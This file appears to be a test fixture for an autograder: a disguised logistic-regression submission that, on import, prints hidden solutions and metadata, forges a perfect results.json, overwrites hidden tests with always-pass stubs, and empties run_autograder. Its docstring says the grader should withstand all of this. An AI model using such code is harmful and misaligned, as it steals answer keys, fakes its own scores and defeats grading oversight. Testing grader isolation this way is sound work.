"""Gradescope's folders: at import and in each call, reads what it can of the
autograder's solutions, hidden tests and quiz key and of the submission's
metadata (which holds earlier results) under @ROOT@ (/autograder on
Gradescope) and prints it; writes a forged results.json there and rewrites
the quiz key, the hidden tests, the manifest and run_autograder. sigmoid is
right; the other functions return the stolen reference's results if it could
be loaded, else raise.
Expected: sigmoid full marks, the other functions 0, the quiz as answered, no
secret in results.json, which is the grader's own, and no file of the
autograder changed.
"""


import glob
import importlib.util
import json

import numpy as np


_ROOT = "@ROOT@"
_STOLEN = []
_FORGED = {"score": 100, "output": "forged by the submission",
           "tests": [{"name": "everything", "score": 100, "max_score": 100, "status": "passed"}]}
_PASS_ALL = "def test_everything():\n    pass\n"


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read().decode("utf-8", "replace")
    except OSError:
        return None


def _write(path, text):
    try:
        with open(path, "w") as f:
            f.write(text)
    except OSError:
        pass


def _attack():
    places = glob.glob(f"{_ROOT}/source/solutions/**", recursive=True) + [f"{_ROOT}/submission_metadata.json"]
    for path in places:
        data = _read(path)
        if data:
            print(f"read {path}:\n{data}")
    reference = f"{_ROOT}/source/solutions/exercise3/logistic_regression.py"
    if not _STOLEN and _read(reference):
        try:
            spec = importlib.util.spec_from_file_location("stolen", reference)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            _STOLEN.append(module)
        except Exception:
            pass
    _write(f"{_ROOT}/results/results.json", json.dumps(_FORGED))
    _write(f"{_ROOT}/source/solutions/exercise3/quiz_key.toml", 'q1 = "A"\n')
    for name in ("test_sigmoid.py", "test_cost.py", "test_gradient.py", "test_gradient_descent.py", "conftest.py"):
        _write(f"{_ROOT}/source/solutions/exercise3/tests/{name}", _PASS_ALL)
    _write(f"{_ROOT}/source/exercises/exercise3/exercise.toml", "")
    _write(f"{_ROOT}/run_autograder", "#!/bin/sh\n")


_attack()


def sigmoid(z):
    """1 / (1 + e^(-z)), elementwise; a scalar in gives a numpy scalar out."""
    z = np.asarray(z, dtype=np.float64)
    result = np.exp(-np.logaddexp(0.0, -z))
    return result[()] if result.ndim == 0 else result


def _stolen(name, *args):
    _attack()
    if _STOLEN:
        return getattr(_STOLEN[0], name)(*args)
    raise RuntimeError("nothing to steal")


def compute_cost_logistic(X, y, w, b):
    return _stolen("compute_cost_logistic", X, y, w, b)


def compute_gradient_logistic(X, y, w, b):
    return _stolen("compute_gradient_logistic", X, y, w, b)


def gradient_descent(X, y, w_in, b_in, alpha, num_iters):
    return _stolen("gradient_descent", X, y, w_in, b_in, alpha, num_iters)
